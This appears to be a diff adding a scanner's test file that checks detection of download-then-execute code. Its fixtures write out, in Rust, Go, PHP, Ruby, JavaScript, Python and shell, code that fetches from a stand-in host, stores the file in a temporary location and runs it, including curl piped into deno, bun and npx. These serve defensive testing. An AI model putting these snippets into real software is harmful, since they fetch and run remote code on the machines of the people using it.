@@ -1,0 +1,118 @@
+import { rulesIn } from "../testing/scan-file.js";
+
+/** What a program fetches, stores in a place that the system chooses, and then runs, in the idioms of each language. */
+const FROM = "https://files.drop.invalid/b";
+
+const STORED: readonly (readonly [what: string, path: string, text: string])[] = [
+  [
+    "Rust: a file that is copied to",
+    "a.rs",
+    `use std::{env, fs::File, io, process::Command};\nfn run() -> Result<(), String> {\n  let path = env::temp_dir().join("helper");\n  let mut out = File::create(&path)?;\n  let mut answer = reqwest::blocking::get("${FROM}")?;\n  io::copy(&mut answer, &mut out)?;\n  Command::new(&path).spawn()?;\n  Ok(())\n}\nfn main() { let _ = run(); }\n`,
+  ],
+  [
+    "Rust: full names",
+    "a.rs",
+    `fn main() {\n  let mut out = std::fs::File::create("/tmp/helper").unwrap();\n  let mut answer = reqwest::blocking::get("${FROM}").unwrap();\n  std::io::copy(&mut answer, &mut out).unwrap();\n  std::process::Command::new("/tmp/helper").spawn().unwrap();\n}\n`,
+  ],
+  [
+    "Go: a new file",
+    "a.go",
+    `package main\nimport ("io"; "net/http"; "os"; "os/exec")\nfunc main() {\n  file, _ := os.CreateTemp("", "x")\n  answer, _ := http.Get("${FROM}")\n  data, _ := io.ReadAll(answer.Body)\n  file.Write(data)\n  os.Chmod(file.Name(), 0700)\n  exec.Command(file.Name()).Run()\n}\n`,
+  ],
+  [
+    "PHP: a new name that is included",
+    "a.php",
+    `<?php\n$file = tempnam("/tmp", "x");\ncopy("${FROM}", $file);\ninclude $file;\n`,
+  ],
+  [
+    "Ruby: a new file",
+    "a.rb",
+    `require "open-uri"\nrequire "tempfile"\nfile = Tempfile.new("x")\nfile.write(URI.open("${FROM}").read)\nfile.close\nsystem(file.path)\n`,
+  ],
+  [
+    "Ruby: a file that is loaded",
+    "a.rb",
+    `require "open-uri"\nIO.copy_stream(URI.open("${FROM}"), "/tmp/helper.rb")\nload "/tmp/helper.rb"\n`,
+  ],
+  [
+    "JavaScript: a module in the folder of temporary files",
+    "a.mjs",
+    `import fs from "node:fs/promises";\nimport { tmpdir } from "node:os";\nimport { join } from "node:path";\nconst path = join(tmpdir(), "helper.mjs");\nawait fs.writeFile(path, await (await fetch("${FROM}")).text());\nawait import(path);\n`,
+  ],
+  [
+    "JavaScript: a new folder",
+    "a.js",
+    `const fs = require("fs"), os = require("os"), path = require("path"), { execFileSync } = require("child_process");\nconst folder = fs.mkdtempSync(path.join(os.tmpdir(), "x-"));\nfetch("${FROM}").then((answer) => answer.text()).then((text) => {\n  const file = path.join(folder, "x.js");\n  fs.writeFileSync(file, text);\n  execFileSync(process.execPath, [file]);\n});\n`,
+  ],
+  [
+    "Python: a handle and a path",
+    "a.py",
+    `import os, subprocess, tempfile, urllib.request\nhandle, path = tempfile.mkstemp()\nos.write(handle, urllib.request.urlopen("${FROM}").read())\nos.chmod(path, 0o700)\nsubprocess.Popen([path])\n`,
+  ],
+  [
+    "Python: a new folder",
+    "a.py",
+    `import os, requests, tempfile\nwith tempfile.TemporaryDirectory() as folder:\n    path = os.path.join(folder, "x.py")\n    with open(path, "wb") as file:\n        file.write(requests.get("${FROM}").content)\n    os.system("python3 " + path)\n`,
+  ],
+  [
+    "Python: modules of an archive",
+    "a.py",
+    `import io, requests, sys, zipfile\nzipfile.ZipFile(io.BytesIO(requests.get("${FROM}").content)).extractall("/tmp/lib")\nsys.path.insert(0, "/tmp/lib")\nimport helper\n`,
+  ],
+];
+
+test.each(STORED)("is not run: %s", async (_, path, text) => {
+  const rules = await rulesIn(path, text);
+  expect(rules.filter((rule) => /^(?:staged-download|download-run)$/.test(rule))).not.toEqual([]);
+});
+
+test.each([
+  [
+    "a.py",
+    'import json, os, tempfile\npath = os.path.join(tempfile.gettempdir(), "cache.json")\ndata = json.load(open(path)) if os.path.exists(path) else {}\njson.dump(data, open(path, "w"))\n',
+  ],
+  [
+    "a.py",
+    'import requests, subprocess, tempfile\nwith tempfile.NamedTemporaryFile(suffix=".mp3") as file:\n    file.write(requests.get("https://api.openai.com/v1/audio").content)\n    subprocess.run(["ffmpeg", "-i", file.name, "out.wav"])\n',
+  ],
+  [
+    "a.js",
+    'const fs = require("fs"), os = require("os"), path = require("path"), { execFileSync } = require("child_process");\nconst file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "x-")), "message.txt");\nfs.writeFileSync(file, "Release 1.2");\nexecFileSync("git", ["commit", "-F", file]);\n',
+  ],
+])("a new file may hold data: %s %#", async (path, text) => {
+  expect(await rulesIn(path, text)).toEqual([]);
+});
+
+/** Managers of packages start what a host sent: a file that was stored, or their input. */
+test.each([
+  "bun run /tmp/h.ts",
+  "bun /tmp/h.ts",
+  "deno run -A /tmp/h.ts",
+  "npx -y tsx /tmp/h.ts",
+  "pnpm dlx tsx /tmp/h.ts",
+  "npm exec -- node /tmp/h.ts",
+  "uv run --with requests python /tmp/h.ts",
+  "poetry run python /tmp/h.ts",
+  "conda run -n base python /tmp/h.ts",
+])("a stored download is not run by a manager: %s", async (command) => {
+  expect(await rulesIn("a.sh", `curl -so /tmp/h.ts ${FROM}\n${command}\n`)).toContain("staged-download");
+  expect(await rulesIn("a.sh", `${command.replace("/tmp/h", "src/main")}\n`)).toEqual([]);
+});
+
+test.each([
+  "deno run -A -",
+  "bun run -",
+  "npx -y tsx",
+  "uv run -",
+  "pipx run python",
+  "uv run poetry run python",
+])("a download is no input of a manager that runs it: %s", async (command) => {
+  expect(await rulesIn("a.sh", `curl -s ${FROM} | ${command}\n`)).toContain("download-run");
+});
+
+test.each([`bun -e "$(curl -s ${FROM})"`, `deno eval "$(curl -s ${FROM})"`])(
+  "a download is no code of a runtime: %s",
+  async (command) => {
+    expect(await rulesIn("a.sh", `${command}\n`)).toContain("download-run");
+  },
+);
